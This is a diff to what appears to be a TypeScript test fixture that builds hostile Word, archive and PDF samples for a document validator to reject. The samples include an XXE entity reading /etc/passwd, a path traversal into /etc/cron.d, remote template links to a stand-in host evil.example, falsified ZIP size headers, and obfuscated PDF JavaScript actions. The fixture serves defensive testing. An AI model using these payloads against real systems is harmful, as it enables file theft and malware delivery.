@@ -70,6 +70,19 @@ export const xlsx = () =>
 
 const entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
 
+const fetched = (what: string) =>
+  `<Relationships><Relationship Id="a" Type="http://schemas.example/${what}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
+/** A document with a link that its reader may follow. */
+export const linked = () => docx({ 'word/_rels/document.xml.rels': strToU8(fetched('hyperlink')) });
+
+/** The list of an archive, changed for its last part. */
+const listed = (bytes: Buffer, change: (list: Buffer) => void) => {
+  change(bytes.subarray(bytes.lastIndexOf(latin('PK\u0001\u0002'))));
+  return bytes;
+};
+const lying = (bytes: Buffer) => listed(bytes, (list) => list.writeUInt32LE(500, 24));
+const locked = (bytes: Buffer) => listed(bytes, (list) => list.writeUInt16LE(1, 8));
+
 /** What is not taken, each with what it is. */
 export const HOSTILE: readonly (readonly [what: string, bytes: Uint8Array])[] = [
   ['a page', latin('<!doctype html><script>alert(1)</script>')],
@@ -84,10 +97,35 @@ export const HOSTILE: readonly (readonly [what: string, bytes: Uint8Array])[] = 
   ['a Word document with a program', docx({ 'word/vbaProject.bin': strToU8('x') })],
   ['a Word document with another in it', docx({ 'word/embeddings/x.bin': strToU8('x') })],
   ['a Word document that leaves its folder', docx({ '../../etc/cron.d/x': strToU8('x') })],
+  ['a Word document with an entity', docx({ 'docProps/core.xml': strToU8(entity) })],
+  [
+    'a Word document with an entity in two bytes a sign',
+    docx({ 'docProps/core.xml': Buffer.from(`\ufeff${entity}`, 'utf16le') }),
+  ],
+  [
+    'a Word document that fetches its template from elsewhere',
+    docx({ 'word/_rels/settings.xml.rels': strToU8(fetched('attachedTemplate')) }),
+  ],
+  [
+    'a Word document with a program under another name',
+    docx({
+      '[Content_Types].xml': strToU8('<Types><x ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'),
+    }),
+  ],
+  [
+    'a Word document whose list says less than it unpacks to',
+    lying(docx({ 'docProps/big.xml': new Uint8Array(900_000) })),
+  ],
+  ['a Word document under a password', locked(docx())],
+  ['a Word document with something after its end', Buffer.concat([docx(), latin('<script>')])],
   ['an archive that is cut off', docx().subarray(0, 60)],
   [
     'a PDF with a program',
     latin(PDF.toString('latin1').replace('/Catalog', '/Catalog/OpenAction<</S/JavaScript/JS(x)>>')),
+  ],
+  [
+    'a PDF with a program, spelt by numbers',
+    latin(PDF.toString('latin1').replace('/Catalog', '/Catalog/OpenAction<</S/J#61vaScript/JS(x)>>')),
   ],
   ['a PDF with a file in it', latin(PDF.toString('latin1').replace('/Catalog', '/Catalog/EmbeddedFile 2 0 R'))],
   ['a PDF that is an archive, too', Buffer.concat([PDF, docx()])],
